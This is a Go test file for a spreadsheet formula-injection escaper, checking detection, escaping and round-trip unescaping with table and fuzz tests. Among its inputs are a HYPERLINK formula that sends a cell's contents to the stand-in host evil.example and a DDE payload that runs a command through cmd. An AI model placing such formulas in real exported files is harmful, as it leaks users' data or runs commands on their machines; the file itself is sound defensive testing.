package enrichment_test

import (
	"testing"

	"github.com/catalog-enrichment/enrichment/enrichment"
)

func TestFormulaLike(t *testing.T) {
	rows := []struct {
		in      string
		formula bool
		escaped string
	}{
		{`=HYPERLINK("http://evil.example/?leak="&A2,"Click")`, true, `'=HYPERLINK("http://evil.example/?leak="&A2,"Click")`},
		{"@SUM(A1:A9)", true, "'@SUM(A1:A9)"},
		{"+1+cmd|' /C calc'!A0", true, "'+1+cmd|' /C calc'!A0"},
		{"-cmd", true, "'-cmd"},
		{"- a list item", true, "'- a list item"},
		{"\tx", true, "'\tx"},
		{"\rx", true, "'\rx"},
		{"-5", false, "-5"},
		{"-0.5 kg", false, "-0.5 kg"},
		{"-", false, "-"},
		{"", false, ""},
		{"a=b", false, "a=b"},
		{" =1", false, " =1"}, // a spreadsheet takes a leading space as text
		{"'quoted'", false, "'quoted'"},
		{"'", false, "'"},
		// a quote before a formula is escaped once more, so that the import,
		// removing one quote, gives it back
		{"'=1", false, "''=1"},
		{"''@x", false, "'''@x"},
	}
	for _, r := range rows {
		if got := enrichment.FormulaLike(r.in); got != r.formula {
			t.Errorf("FormulaLike(%q) = %v, want %v", r.in, got, r.formula)
		}
		esc := enrichment.EscapeFormula(r.in)
		if esc != r.escaped {
			t.Errorf("EscapeFormula(%q) = %q, want %q", r.in, esc, r.escaped)
		}
		if back := enrichment.UnescapeFormula(esc); back != r.in {
			t.Errorf("UnescapeFormula(%q) = %q, want %q", esc, back, r.in)
		}
		if enrichment.FormulaLike(esc) {
			t.Errorf("EscapeFormula(%q) = %q still begins like a formula", r.in, esc)
		}
	}
}

// FuzzFormulaRoundTrip: whatever a cell holds, the export's escape and the
// import's unescape give it back, and the escaped cell never begins like a
// formula.
func FuzzFormulaRoundTrip(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "-5", "-x", "'", "''", "@", "\t", "plain"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		esc := enrichment.EscapeFormula(s)
		if back := enrichment.UnescapeFormula(esc); back != s {
			t.Fatalf("UnescapeFormula(EscapeFormula(%q)) = %q", s, back)
		}
		if enrichment.FormulaLike(esc) {
			t.Fatalf("EscapeFormula(%q) = %q begins like a formula", s, esc)
		}
	})
}
